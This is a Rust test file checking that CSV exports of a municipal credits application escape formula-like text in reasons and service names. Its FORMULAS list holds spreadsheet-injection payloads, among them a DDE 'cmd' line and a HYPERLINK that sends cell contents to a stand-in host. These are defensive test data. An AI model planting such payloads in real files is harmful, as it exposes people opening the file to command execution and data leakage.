//! Files for a spreadsheet: whatever people wrote, no cell is a formula there.

use model::api::Problem;
use model::api::calls::{GrantExtra, ProposeCorrection};
use store::{Transaction, UnitOfWork};

use crate::test_app::TestApp;

/// As an import of the catalogue would.
#[derive(Clone)]
struct Rename(&'static str);

impl UnitOfWork for Rename {
    type Answer = ();

    async fn run(self, tx: &mut Transaction) -> Result<(), Problem> {
        let mut service = tx.catalogue().await?.services[&"sms".into()].clone();
        self.0.clone_into(&mut service.name);
        Ok(tx.save_service(&service).await?)
    }
}

/// How a formula begins, as a person could write it in a reason or a name.
const FORMULAS: [&str; 10] = [
    "=HYPERLINK(\"https://altrove.example.org/?\"&A1;\"Apri\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
];

/// The cells as a spreadsheet reads them, quotes taken off.
fn cells(file: &str) -> Vec<String> {
    let text = file.strip_prefix('\u{feff}').expect("a byte order mark");
    let mut reader =
        csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(text.as_bytes());
    let mut cells = Vec::new();
    for row in reader.records() {
        cells.extend(row.expect("a row").iter().map(str::to_owned));
    }
    cells
}

/// Every formula is there as text, and nothing else begins like one but whole numbers.
fn assert_harmless(file: &str, written: &[&str]) {
    let cells = cells(file);
    for formula in written {
        // What is written is kept without the spaces around it.
        let formula = formula.trim();
        assert!(cells.contains(&format!("'{formula}")), "{formula:?} is told, as text: {cells:?}");
    }
    for cell in cells.iter().filter(|cell| cell.parse::<i64>().is_err()) {
        let first = cell.chars().next();
        let begins = first.is_some_and(|first| FORMULAS.iter().any(|formula| formula.starts_with(first)));
        assert!(!begins, "{cell:?}");
    }
}

#[tokio::test]
async fn no_reason_becomes_a_formula_in_the_file_of_movements() {
    let app = TestApp::new().await;
    app.trust_one_person().await;
    let (administrator, body) = (app.administrator(), app.body("Bellagio"));
    for formula in FORMULAS {
        let grant = GrantExtra { body, credits: 1, seen: None, reason: formula.to_owned() };
        administrator.call(grant).await.expect("granted");
    }
    let less = ProposeCorrection::by(body, -1, "Conteggio".to_owned());
    administrator.call(less).await.expect("corrected");
    let file = app.officer("Bellagio").get(&format!("/api/v1/bodies/{body}/entries.csv")).await;
    assert_eq!(
        file.header("content-disposition"),
        "attachment; filename=\"movimenti-comune-di-bellagio-2026-03-02.csv\""
    );
    assert_harmless(&file.body, &FORMULAS);
    assert!(cells(&file.body).contains(&"-1".to_owned()), "a number stays one");
}

#[tokio::test]
async fn the_changes_in_the_file_of_movements_sum_to_what_is_available() {
    let app = TestApp::new().await;
    app.authorised("Bellagio", &["tributi", "sms"], &["scuola"]).await;
    let body = app.body("Bellagio");
    let file = app.officer("Bellagio").get(&format!("/api/v1/bodies/{body}/entries.csv")).await;
    let mut lines =
        file.body.trim_start_matches('\u{feff}').lines().map(|line| line.split(';').collect::<Vec<_>>());
    let head = lines.next().expect("a head");
    let at = |name: &str| head.iter().position(|column| *column == name).expect("a column");
    let rows: Vec<_> = lines.collect();
    let number = |row: &[&str], name| row[at(name)].parse::<i64>().expect("a number");
    let sum: i64 = rows.iter().map(|row| number(row, "variazione dei disponibili")).sum();
    let last = rows.last().expect("a movement");
    assert_eq!(sum, number(last, "disponibili"));
    assert_eq!(sum, app.account("Bellagio").await.available());
    assert!(rows.iter().all(|row| row[at("ente")] == "Comune di Bellagio"));
    assert!(rows.iter().any(|row| row[at("codice del servizio")] == "tributi"));
}

#[tokio::test]
async fn no_name_becomes_a_formula_in_the_executive_project() {
    let app = TestApp::new().await;
    app.write(Rename("=1+1")).await.expect("renamed");
    let file = app.observer().get("/api/v1/board/matrix.csv").await;
    assert_eq!(file.status, 200);
    assert_harmless(&file.body, &["=1+1"]);
}
